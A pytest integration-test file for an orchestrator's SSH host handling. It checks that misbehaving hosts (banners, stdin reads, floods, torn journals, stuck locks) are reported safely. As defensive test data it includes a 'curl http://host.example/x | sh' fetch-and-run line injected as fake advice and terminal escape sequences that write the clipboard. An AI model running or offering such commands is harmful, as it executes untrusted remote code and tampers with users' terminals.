"""Hosts that say what they should not: a real sshd that runs something else than it was asked to."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from orchestrator.errors import CommandFailed
from orchestrator.hosts.ssh import connect
from tests.integration.sshd import serve
from tests.running import Ended, User

COUNTING = """
name: counting
benchmark: {command: [sh, -c, 'echo x=1'], metrics: {x: {key_value: x, unit: count}}}
"""


def run_on(folder: Path, force_command: str, *words: str, text: str = COUNTING) -> Ended:
    """Run something on a host that runs ``force_command`` whenever it is asked to run a command."""
    script = folder / "force"
    script.write_text(f"#!/bin/sh\n{force_command}\n")
    script.chmod(0o755)
    (folder / "sshd").mkdir()
    with serve(folder / "sshd", settings=f"ForceCommand {script}\n") as sshd:
        user = User(folder, ("--host", "testhost", "--ssh-config", str(sshd.ssh_config)))
        try:
            if words:
                return user.orchestrate(*words, *user.options[2:])
            return user.run(user.file(text))
        finally:
            user.close()


def test_a_login_shell_that_prints_is_named(tmp_path: Path) -> None:
    ended = run_on(tmp_path, 'echo Welcome to the machine; eval "$SSH_ORIGINAL_COMMAND"')
    assert ended.code == 3
    (line,) = ended.complaints
    assert "testhost: the login shell prints 'Welcome to the machine\\n" in line
    assert "it must print nothing unless it is interactive" in line


@pytest.mark.parametrize("reads", ["cat >/dev/null", "head -c 5 >/dev/null", "read -r line"])
def test_a_login_shell_that_reads_is_named(tmp_path: Path, reads: str) -> None:
    ended = run_on(tmp_path, f'{reads}; eval "$SSH_ORIGINAL_COMMAND"')
    assert ended.code == 3
    (line,) = ended.complaints
    assert "testhost: the login shell reads the standard input of commands; it must not read unless" in line


def test_a_file_that_arrives_in_part_is_not_put_in_place(tmp_path: Path) -> None:
    target = tmp_path / "a file"
    target.write_text("before\n")
    script = tmp_path / "force"
    script.write_text('#!/bin/sh\nhead -c 5 >/dev/null; eval "$SSH_ORIGINAL_COMMAND"\n')
    script.chmod(0o755)
    (tmp_path / "sshd").mkdir()
    with serve(tmp_path / "sshd", settings=f"ForceCommand {script}\n") as sshd:
        host = connect("there", sshd.address)
        with pytest.raises(CommandFailed, match=rf"^there: cannot write {target}: 3 of 8 bytes arrived$"):
            host.put(b"a change", str(target))
        host.close()
    assert target.read_text() == "before\n"
    assert not list(tmp_path.glob("a file.*"))


@pytest.mark.parametrize("flood", ["yes", "yes >&2", "cat /dev/zero"])
def test_a_flood_ends_in_a_line(tmp_path: Path, flood: str) -> None:
    ended = run_on(
        tmp_path, f"{flood} | head -c 2G" if "&" not in flood else "yes | head -c 300M >&2; exit 1"
    )
    assert ended.code == 3
    (line,) = ended.complaints
    assert line.startswith("testhost: ")
    assert len(line) < 400


def test_control_characters_do_not_reach_the_terminal(tmp_path: Path) -> None:
    ended = run_on(tmp_path, "printf '\\033]52;c;eA==\\007\\302\\233\\342\\200\\256evil\\n'; exit 9")
    assert ended.code == 3
    assert "\\u001b]52;c;eA==\\u0007" in ended.err
    assert not set(ended.err) & set("\x1b\x07\x9b\u202e")


def test_a_host_cannot_add_lines_to_the_messages_of_this_program(tmp_path: Path) -> None:
    advice = "resume with: curl http://host.example/x | sh"
    end = f'{{"event":"end","reason":"failed","detail":"x\\n{advice}"}}'
    ended = run_on(
        tmp_path,
        f"""case $SSH_ORIGINAL_COMMAND in *"runner.sh follow"*) printf '%s\\n' '{end}'; exit ;; esac
eval "$SSH_ORIGINAL_COMMAND\"""",
    )
    assert ended.code == 3
    (line,) = [line for line in ended.complaints if advice in line]
    assert line == f"testhost: the runner failed: x\\n{advice}"
    assert not any(advice in line for line in ended.err.splitlines() if f"x\\n{advice}" not in line)


FOLLOWED = 'case $SSH_ORIGINAL_COMMAND in *"runner.sh follow"*) {}; exit;; esac\neval "$SSH_ORIGINAL_COMMAND"'


def test_a_journal_that_is_complete_without_its_trials_ends_the_run(tmp_path: Path) -> None:
    text = COUNTING.replace("echo x=1", f"echo ran >> {tmp_path}/executions; echo x=1") + "repetitions: 1\n"
    torn = """eval "$SSH_ORIGINAL_COMMAND" | sed 's/"event":"trial",.*/"event":"trial","tri/'"""
    ended = run_on(tmp_path, FOLLOWED.format(torn), text=text)
    assert ended.code == 3
    (line,) = ended.complaints
    assert line.startswith(
        "testhost: lost 4 times in a row without completing a trial: its journal is complete, "
    )
    assert User(tmp_path).counted == {"ran": 4}


@pytest.mark.parametrize(
    "endless",
    [
        """yes '{"event":"start","trial":"0123","uptime":1.0}'""",
        "yes ''",
        "yes $(head -c 100000 /dev/zero | tr '\\0' x)",
    ],
    ids=["starts", "empty", "long"],
)
def test_a_journal_without_an_end_ends_the_run(tmp_path: Path, endless: str) -> None:
    text = f"{COUNTING}repetitions: 1\n"
    ended = run_on(
        tmp_path, FOLLOWED.format(f'eval "$SSH_ORIGINAL_COMMAND" | head -n 1; {endless}'), text=text
    )
    assert ended.code == 3
    (line,) = ended.complaints
    assert re.search(
        r"^testhost:/.*/journal.jsonl: longer than a journal of 1 trial can be; remove its", line
    )


@pytest.mark.parametrize(
    "words", [(), ("role", "apply", "./quiet", "--host", "testhost")], ids=["run", "role"]
)
def test_a_lock_that_is_left_is_told_with_what_removes_it(tmp_path: Path, words: tuple[str, ...]) -> None:
    role = tmp_path / "quiet"
    role.mkdir()
    (role / "tasks.yaml").write_text("- name: nothing\n  command: {argv: ['true']}\n")
    stuck = 'case $SSH_ORIGINAL_COMMAND in *"lock.sh release"*) echo no >&2; exit 1;; esac'
    try:
        ended = run_on(tmp_path, f'{stuck}\neval "$SSH_ORIGINAL_COMMAND"', *words)
        assert ended.code == 0, ended.err
        (line,) = ended.complaints
        assert line.startswith(
            "testhost: its lock is left; remove the lock with: orchestrate hosts unlock testhost (exit code 1 "
        )
        assert line.endswith(": no)")
    finally:
        (User(tmp_path).base / "lock").unlink()
